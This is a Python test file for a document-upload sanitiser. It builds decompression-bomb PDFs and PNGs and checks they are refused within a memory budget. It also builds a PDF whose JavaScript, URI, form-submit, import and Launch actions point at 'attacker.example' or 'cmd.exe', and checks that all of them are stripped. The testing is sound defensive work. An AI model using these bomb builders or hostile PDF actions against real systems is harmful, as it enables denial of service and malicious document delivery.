"""Uploads cannot exhaust memory (the worst files are cleaned within a fixed budget, measured in
a process of their own), and PDFs keep no action or script (DESIGN.md invariants 9 and 13)."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zlib
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from PIL import Image

from corridor.cases import files

BUDGET_MIB = 256
_MIB = 1024 * 1024


# -- bombs, built without ever holding what they expand to ----------------------------------------


def _deflate_zeros(total: int) -> bytes:
    """A zlib stream of `total` zero bytes: one flushed block repeated, so it costs nothing to build."""
    piece = _MIB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\0" * piece) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail_compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = tail_compressor.compress(b"\0" * (total % piece)) + tail_compressor.flush(zlib.Z_FINISH)
    adler = 1
    zeros = b"\0" * piece
    for _ in range(total // piece):
        adler = zlib.adler32(zeros, adler)
    adler = zlib.adler32(b"\0" * (total % piece), adler)
    return b"\x78\xda" + block * (total // piece) + tail + adler.to_bytes(4, "big")


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


def black_png(width: int, height: int) -> bytes:
    """An RGB PNG of one colour: each row is a filter byte and zeros."""
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    idat = _deflate_zeros(height * (1 + 3 * width))
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def pdf_with_image_stream(data: bytes, filters: list[str], size: tuple[int, int] = (32768, 32768)) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    image = pikepdf.Stream(pdf, data)
    image["/Type"] = pikepdf.Name.XObject
    image["/Subtype"] = pikepdf.Name.Image
    image["/Width"], image["/Height"] = size
    image["/ColorSpace"] = pikepdf.Name.DeviceGray
    image["/BitsPerComponent"] = 8
    image["/Filter"] = pikepdf.Array([pikepdf.Name(f) for f in filters])
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def pdf_with_object_stream_bomb() -> bytes:
    """A hand-written PDF whose one compressed object sits in an object stream of 1 GiB:
    qpdf decodes an object stream whole as soon as one of its objects is looked at."""
    out = bytearray(b"%PDF-1.5\n")
    offsets: list[int] = []

    def add(number: int, body: bytes) -> None:
        offsets.append(len(out))
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    bomb = _deflate_zeros(1 << 30)
    add(1, b"<< /Type /Catalog /Pages 2 0 R /Extra 5 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>")
    add(4, b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb) + bomb + b"\nendstream")
    xref_at = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in offsets]
    rows.append(b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00")  # object 5: first in object stream 4
    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00")  # object 6: this cross-reference stream
    table = b"".join(rows)
    out.extend(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table))
    out.extend(table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)


_CHILD = """
import io, json, resource, sys
import django
django.setup()
from corridor.cases import files
data = open(sys.argv[1], "rb").read()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    files.sanitize(io.BytesIO(data), sys.argv[2])
    outcome = "accepted"
except files.FileRejected as rejected:
    outcome = rejected.code
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"outcome": outcome, "extra_mib": (after - before) / 1024}))
"""


def _clean_in_child(tmp_path: Path, data: bytes, name: str) -> dict[str, Any]:
    """Clean one file in a fresh interpreter and report its peak memory above the interpreter's own."""
    path = tmp_path / name
    path.write_bytes(data)
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "corridor.settings_test", "CORRIDOR_TEST_DATA_DIR": str(tmp_path)}
    done = subprocess.run(  # noqa: S603 -- our own interpreter and script
        [sys.executable, "-c", _CHILD, str(path), name], capture_output=True, text=True, env=env, timeout=300, check=True
    )
    return dict(json.loads(done.stdout.strip().splitlines()[-1]))


@pytest.mark.parametrize(
    ("name", "build", "outcome"),
    [
        # 1 GiB of image data behind one, two (nested) and one-around-a-JPEG Flate layers.
        ("flate.pdf", lambda: pdf_with_image_stream(_deflate_zeros(1 << 30), ["/FlateDecode"]), "inflated"),
        (
            "nested.pdf",
            lambda: pdf_with_image_stream(zlib.compress(_deflate_zeros(1 << 30), 9), ["/FlateDecode"] * 2),
            "inflated",
        ),
        (
            "jpeg.pdf",
            lambda: pdf_with_image_stream(_deflate_zeros(1 << 30), ["/FlateDecode", "/DCTDecode"], (64, 64)),
            "inflated",
        ),
        ("objstm.pdf", pdf_with_object_stream_bomb, "inflated"),
        ("huge.png", lambda: black_png(30_000, 30_000), "pixels"),  # 900 megapixels in 2.6 MB
        ("dense.png", lambda: black_png(8_000, 8_000), "decoded"),  # 183 MiB of pixels in 187 KiB
        # The largest pictures still accepted, in colour so every page of memory is written.
        ("largest.png", lambda: _pillow_file("PNG", (5_600, 5_600)), "accepted"),
        ("largest.webp", lambda: _pillow_file("WEBP", (3_400, 3_400)), "accepted"),
    ],
)
def test_cleaning_the_worst_files_stays_within_the_memory_budget(tmp_path: Path, name: str, build: Any, outcome: str) -> None:
    data = build()
    assert len(data) < 3 * _MIB
    result = _clean_in_child(tmp_path, data, name)
    assert result["outcome"] == outcome
    assert result["extra_mib"] < BUDGET_MIB, f"{name}: {result['extra_mib']:.0f} MiB"


def _pillow_file(fmt: str, size: tuple[int, int]) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, fmt)
    return out.getvalue()


def test_a_compression_bomb_is_refused_with_a_clear_message() -> None:
    data = pdf_with_image_stream(zlib.compress(_deflate_zeros(1 << 30), 9), ["/FlateDecode", "/FlateDecode"])
    assert len(data) < 200 * 1024
    with pytest.raises(files.FileRejected) as caught:
        files.sanitize(io.BytesIO(data), "report.pdf")
    assert caught.value.messages == [
        "This PDF contains compressed data that expands to more than 256 MB: it cannot be accepted. "
        "Print it to a new PDF, or send the pages as photos."
    ]


def test_a_picture_too_big_to_decode_is_refused_before_decoding() -> None:
    with pytest.raises(files.FileRejected) as caught:
        files.sanitize(io.BytesIO(black_png(8_000, 8_000)), "scan.png")
    assert caught.value.messages == [
        "This file would take 184 MB of memory to open; the limit is 96 MB. Send a smaller picture "
        "(most phones offer “smaller size” when sharing) or a PDF made at a lower resolution."
    ]


# -- active content ------------------------------------------------------------------------------

ATTACKER = "http://attacker.example/"
SCRIPT = "app.launchURL('http://attacker.example/js')"
ACTION_TYPES = {
    "/GoToR", "/GoToE", "/Launch", "/Thread", "/URI", "/Sound", "/Movie", "/Hide", "/Named", "/SubmitForm",
    "/ResetForm", "/ImportData", "/JavaScript", "/SetOCGState", "/Rendition", "/Trans", "/GoTo3DView", "/RichMediaExecute",
}  # fmt: skip
ACTIVE_KEYS = {"/OpenAction", "/AA", "/A", "/JS", "/JavaScript", "/URI", "/XFA", "/EmbeddedFiles", "/EF", "/Launch"}


def _action(pdf: pikepdf.Pdf, kind: str, **extra: Any) -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **extra))


def pdf_with_every_action() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    page, second = pdf.pages[0], pdf.pages[1]
    js = _action(pdf, "/JavaScript", JS=pikepdf.String(SCRIPT))
    pdf.Root.OpenAction = js
    pdf.Root.AA = pikepdf.Dictionary(WC=_action(pdf, "/JavaScript", JS=pdf.make_stream(SCRIPT.encode())))
    pdf.Root.URI = pikepdf.Dictionary(Base=pikepdf.String(ATTACKER))
    page.obj.AA = pikepdf.Dictionary(O=_action(pdf, "/URI", URI=pikepdf.String(ATTACKER + "open")))
    names = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), js]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=names)
    chained = _action(pdf, "/Launch", F=pikepdf.String("cmd.exe"), Next=_action(pdf, "/GoToR", F=pikepdf.String(ATTACKER)))

    def link(action: Any) -> pikepdf.Dictionary:
        return pdf.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action)
        )

    submit = _action(pdf, "/SubmitForm", F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String(ATTACKER + "post")))
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Btn,
            T=pikepdf.String("send"),
            Rect=[0, 0, 10, 10],
            A=submit,
            AA=pikepdf.Dictionary(K=_action(pdf, "/JavaScript", JS=pikepdf.String(SCRIPT))),
        )
    )
    attachment = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.FileAttachment,
            Rect=[0, 0, 10, 10],
            FS=pikepdf.Dictionary(
                Type=pikepdf.Name.Filespec, F=pikepdf.String("x.exe"), EF=pikepdf.Dictionary(F=pdf.make_stream(b"MZ"))
            ),
        )
    )
    internal = link(pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([second.obj, pikepdf.Name.Fit])))
    page.obj.Annots = pikepdf.Array(
        [
            link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(ATTACKER + "link"))),  # a direct action
            link(chained),
            link(_action(pdf, "/ImportData", F=pikepdf.String(ATTACKER + "data.fdf"))),
            field,
            attachment,
            internal,
        ]
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    outline_item = pdf.make_indirect(
        pikepdf.Dictionary(Title=pikepdf.String("Open"), A=_action(pdf, "/URI", URI=pikepdf.String(ATTACKER)))
    )
    pdf.Root.Outlines = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=outline_item, Last=outline_item, Count=1)
    )
    outline_item.Parent = pdf.Root.Outlines
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _every_dictionary(pdf: pikepdf.Pdf) -> list[pikepdf.Dictionary]:
    found: list[Any] = []

    def walk(obj: Any, depth: int = 0) -> None:
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            found.append(obj)
            children = [obj.get(k) for k in obj.keys()]
        elif isinstance(obj, pikepdf.Array):
            children = list(obj)
        else:
            return
        for child in children:
            if isinstance(child, pikepdf.Dictionary | pikepdf.Array | pikepdf.Stream) and not child.is_indirect:
                walk(child, depth + 1)

    walk(pdf.trailer)
    for obj in pdf.objects:
        walk(obj)
    return found


def test_a_pdf_loses_every_action_and_script_and_keeps_its_internal_links() -> None:
    original = pdf_with_every_action()
    with pikepdf.open(io.BytesIO(original)) as before:
        kinds_before = {str(d.get("/S")) for d in _every_dictionary(before) if d.get("/S") is not None}
    assert {"/JavaScript", "/URI", "/Launch", "/GoToR", "/SubmitForm", "/ImportData", "/GoTo"} <= kinds_before

    cleaned = files.sanitize(io.BytesIO(original), "form.pdf").data

    with pikepdf.open(io.BytesIO(cleaned)) as after:
        dictionaries = _every_dictionary(after)
        assert [sorted(set(d.keys()) & ACTIVE_KEYS) for d in dictionaries if set(d.keys()) & ACTIVE_KEYS] == []
        assert [str(d.get("/S")) for d in dictionaries if str(d.get("/S")) in ACTION_TYPES] == []
        assert [str(a.get("/Subtype")) for a in after.pages[0].Annots] == ["/Link", "/Link", "/Link", "/Widget", "/Link"]
        # The jump to page two is still there, as a plain destination.
        assert after.pages[0].Annots[4].Dest[0].objgen == after.pages[1].obj.objgen
        assert len(after.pages) == 2
    for planted in (b"attacker.example", b"launchURL", b"cmd.exe", b"xdp:xdp", b"x.exe"):
        assert planted not in cleaned
